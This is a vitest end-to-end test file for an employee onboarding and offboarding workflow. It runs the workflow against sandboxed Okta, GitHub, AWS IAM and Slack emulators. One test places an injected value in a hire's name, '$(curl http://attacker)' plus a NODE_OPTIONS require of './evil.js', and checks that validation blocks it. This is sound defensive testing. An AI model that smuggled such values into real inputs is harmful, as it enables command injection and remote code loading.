// The real lifecycle.yml through the local runner against the sandbox: the product as a user runs it.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { runInSandbox, SANDBOX_REPOSITORY, type WorkflowResult } from '@onramp/runner'
import { type Sandbox, startSandbox } from '@onramp/sandbox'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { TEST_TIME_SCALE } from '../support/harness.js'

const repoRoot = new URL('../..', import.meta.url).pathname
const sample = (type: string) =>
  JSON.parse(readFileSync(join(repoRoot, 'test/fixtures/events', `${type}.json`), 'utf8')) as {
    action: string
    client_payload: { event_id: string; occurred_at: string; person: Record<string, string> }
  }
const PERSONAL = ['jamie.doe@acme.com', 'Jamie Doe', 'riley.manager@acme.com']

let runs = 0
async function lifecycle(sandbox: Sandbox, event: Record<string, unknown>, eventName = 'repository_dispatch') {
  runs += 1
  const lines: string[] = []
  const result = await runInSandbox(sandbox, {
    repoRoot,
    eventName,
    event,
    inputs: (event as { inputs?: Record<string, string> }).inputs,
    runId: String(5000 + runs),
    onProgress: (e) => lines.push(JSON.stringify(e)),
  })
  return { result, output: lines.join('\n') + JSON.stringify(result) }
}

const jobResults = (r: WorkflowResult) => Object.fromEntries(Object.entries(r.jobs).map(([k, j]) => [k, j.result]))

function ledger(sandbox: Sandbox, id: string) {
  const { owner, name } = SANDBOX_REPOSITORY
  const text = sandbox.emulators.github.emulator.file(owner, name, `people/${id}.json`, 'onramp-state')
  return text ? JSON.parse(text) : undefined
}

async function start() {
  return startSandbox({
    roles: join(repoRoot, '.github/access/roles.yaml'),
    guardrails: join(repoRoot, '.github/access/guardrails.yaml'),
    timeScale: TEST_TIME_SCALE,
    seed: {
      github: {
        repos: [{ owner: SANDBOX_REPOSITORY.owner, name: SANDBOX_REPOSITORY.name, default_branch: 'main' }],
        users: [{ login: 'jamie-doe-dev', id: 583231 }],
      },
      slack: { users: [{ email: 'riley.manager@acme.com', name: 'riley' }] },
    },
  })
}

describe('lifecycle.yml end to end', () => {
  let sandbox: Sandbox
  beforeAll(async () => {
    sandbox = await start()
  })
  afterAll(() => sandbox.close())

  it('onboards the sample hire in every system, verified and recorded', async () => {
    const { result, output } = await lifecycle(sandbox, sample('onboard'))
    expect(jobResults(result)).toEqual({
      validate: 'success',
      review: 'success',
      identity: 'success',
      github: 'success',
      aws: 'success',
      notify: 'success',
      wake: 'skipped',
      alert: 'skipped',
    })
    const record = ledger(sandbox, 'E1042')
    expect(record).toMatchObject({ employee_id: 'E1042', status: 'active', role: 'backend-engineer' })
    for (const step of ['identity', 'github', 'aws', 'notify']) expect(record.steps[step]).toBeDefined()
    // As in Okta: a new user without a password is PROVISIONED, the activation email sent; the identity step
    // is pending (not failed, not done) and says so in its summary, and the later jobs still run.
    const okta = sandbox.emulators.okta.emulator.user('jamie.doe@acme.com')
    expect(okta?.status).toBe('PROVISIONED')
    expect(sandbox.emulators.okta.emulator.state().activationEmails.map((e) => e.userId)).toEqual([okta?.id])
    expect(record.steps.identity).toMatchObject({ result: 'pending', verified: true })
    expect(result.jobs.identity!.summary).toContain('⏳ pending')
    expect(result.jobs.identity!.summary).toContain('Okta sent the activation email')
    const iamUser = sandbox.emulators.iam.emulator.user(record.ids.aws.user_name)
    expect(iamUser?.boundary).toBe('arn:aws:iam::123456789012:policy/onramp/OnrampUserBoundary')
    expect(iamUser?.path).toBe('/onramp/')
    expect(sandbox.mail.list()).toHaveLength(1)
    for (const p of PERSONAL) expect(output).not.toContain(p)
  })

  it('the same event again makes no changing call and sends nothing twice', async () => {
    const before = sandbox.log.list({ mutating: true }).length
    const messages = sandbox.mail.list().length
    const { result } = await lifecycle(sandbox, sample('onboard'))
    expect(result.conclusion).toBe('success')
    const after = sandbox.log.list({ mutating: true }).slice(before)
    expect(after.map((e) => `${e.emulator} ${e.route}`)).toEqual([])
    expect(sandbox.mail.list()).toHaveLength(messages)
  })

  it('a workflow_dispatch rerun by employee id is a dry run by default: it reads and changes nothing', async () => {
    const before = sandbox.log.list({ mutating: true }).length
    const { result } = await lifecycle(
      sandbox,
      { inputs: { 'employee-id': 'E1042', 'event-type': 'onboard' } },
      'workflow_dispatch',
    )
    expect(result.conclusion).toBe('success')
    expect(sandbox.log.list({ mutating: true }).slice(before)).toEqual([])
  })

  it('moves the person to a new role', async () => {
    const { result } = await lifecycle(sandbox, sample('role-change'))
    expect(result.conclusion).toBe('success')
    const record = ledger(sandbox, 'E1042')
    expect(record.role).toBe(sample('role-change').client_payload.person.role)
  })

  it('refuses an event older than the last one applied', async () => {
    const stale = sample('onboard')
    stale.client_payload.event_id = 'hr-stale-0001'
    stale.client_payload.occurred_at = '2026-01-01T00:00:00Z'
    const before = sandbox.log.list({ mutating: true }).length
    const { result } = await lifecycle(sandbox, stale)
    expect(result.conclusion).toBe('failure')
    expect(
      sandbox.log
        .list({ mutating: true })
        .slice(before)
        .filter((e) => e.emulator !== 'slack'),
    ).toEqual([])
  })

  it('offboards: identity first, then GitHub and AWS, verified', async () => {
    // The hire has set a password since: ACTIVE (Okta suspends only ACTIVE users; a PROVISIONED leaver is
    // deactivated instead).
    sandbox.emulators.okta.emulator.setStatus('jamie.doe@acme.com', 'ACTIVE')
    const from = sandbox.log.list().length
    const { result } = await lifecycle(sandbox, sample('offboard'))
    expect(result.conclusion).toBe('success')
    const changes = sandbox.log.list({ mutating: true }).filter((e) => e.seq > from)
    const firstOf = (emulator: string) => changes.find((e) => e.emulator === emulator)?.seq ?? Number.POSITIVE_INFINITY
    const identity = changes.filter((e) => e.emulator === 'okta').map((e) => e.route)
    expect(identity).toEqual([
      'POST /api/v1/users/{userId}/lifecycle/suspend',
      'DELETE /api/v1/users/{userId}/sessions',
    ])
    const lastIdentity = Math.max(...changes.filter((e) => e.emulator === 'okta').map((e) => e.seq))
    const orgChanges = changes.filter((e) => e.emulator === 'github' && e.route?.startsWith('DELETE /orgs/'))
    expect(orgChanges.length).toBeGreaterThan(0)
    expect(lastIdentity).toBeLessThan(firstOf('iam'))
    // GitHub access, not the ledger: its commits (the event recorded first) go to a repository of the same GitHub.
    expect(lastIdentity).toBeLessThan(Math.min(...orgChanges.map((e) => e.seq)))
    expect(sandbox.emulators.okta.emulator.user('jamie.doe@acme.com')?.status).toMatch(/SUSPENDED|DEPROVISIONED/)
    expect(ledger(sandbox, 'E1042').status).toBe('offboarded')
  })
  it('a rerun never turns an offboarded person back into a hire', async () => {
    const before = sandbox.log.list({ mutating: true }).length
    const { result } = await lifecycle(
      sandbox,
      { inputs: { 'employee-id': 'E1042', 'event-type': 'onboard', 'dry-run': 'false' } },
      'workflow_dispatch',
    )
    expect(result.jobs.identity?.result).toBe('failure')
    const granted = sandbox.log
      .list({ mutating: true })
      .slice(before)
      .filter((e) => e.emulator !== 'slack')
    expect(granted).toEqual([])
    expect(sandbox.emulators.okta.emulator.user('jamie.doe@acme.com')?.status).toBe('SUSPENDED')
  })
})

describe('lifecycle.yml when things go wrong', () => {
  let sandbox: Sandbox
  beforeAll(async () => {
    sandbox = await start()
  })
  afterAll(() => sandbox.close())

  it('a malicious payload fails validate before any API call, with nothing raw in the logs', async () => {
    const event = sample('onboard')
    event.client_payload.person.name = 'Jamie $(curl http://attacker)\nNODE_OPTIONS=--require ./evil.js'
    const { result, output } = await lifecycle(sandbox, event)
    expect(result.jobs.validate?.result).toBe('failure')
    for (const job of ['identity', 'github', 'aws', 'notify']) expect(result.jobs[job]?.result).toBe('skipped')
    // The only calls are the alarm's: a read of the ledger, one post to the alerts channel and its read-back from
    // the channel's history. No system that grants access was called at all.
    const calls = sandbox.log.list().map((e) => `${e.emulator} ${e.method} ${e.route}`)
    const alarm = ['chat.postMessage', 'conversations.list', 'conversations.history'].map(
      (m) => `slack POST Slack ${m}`,
    )
    expect(calls.filter((c) => !/^github GET .*contents/.test(c) && !alarm.includes(c))).toEqual([])
    expect(calls.filter((c) => c === 'slack POST Slack chat.postMessage')).toHaveLength(1)
    const alerts = sandbox.emulators.slack.emulator.state().channels.find((c) => c.name === 'onramp-alerts')
    expect(JSON.stringify(alerts?.messages)).toContain('validate')
    expect(output).not.toContain('NODE_OPTIONS=--require')
    expect(output).not.toContain('curl http://attacker')
  })

  it('a grant-aws failure raises the alert, the ledger shows what succeeded, and a rerun completes', async () => {
    sandbox.emulators.iam.faults.script({
      match: { route: 'IAM CreateUser' },
      times: 20,
      respond: { status: 400, body: '' },
    })
    const { result } = await lifecycle(sandbox, sample('onboard'))
    expect(result.jobs.aws?.result).toBe('failure')
    expect(result.jobs.alert?.result).toBe('success')
    const alerts = sandbox.emulators.slack.emulator.state().channels.find((c) => c.name === 'onramp-alerts')
    expect(JSON.stringify(alerts?.messages)).toContain('E1042')
    const record = ledger(sandbox, 'E1042')
    expect(record.steps.identity.result).toBe('pending') // PROVISIONED: the activation email is out
    expect(record.steps.aws.result).toBe('failed')
    // Not applied: the identity step applied it first, the failed AWS step put the record back.
    expect(record.status).toBe('new')
    expect(record.last_event).toBeUndefined()
    expect(record.unapplied_event).toMatchObject({ type: 'onboard', event_id: 'hr-7f3c2a91-0001' })

    sandbox.emulators.iam.faults.clear()
    const rerun = await lifecycle(sandbox, sample('onboard'))
    expect(rerun.result.conclusion).toBe('success')
    expect(ledger(sandbox, 'E1042')).toMatchObject({
      status: 'active',
      steps: { aws: { result: 'changed' } },
      last_event: { type: 'onboard', event_id: 'hr-7f3c2a91-0001' },
    })
  })
})
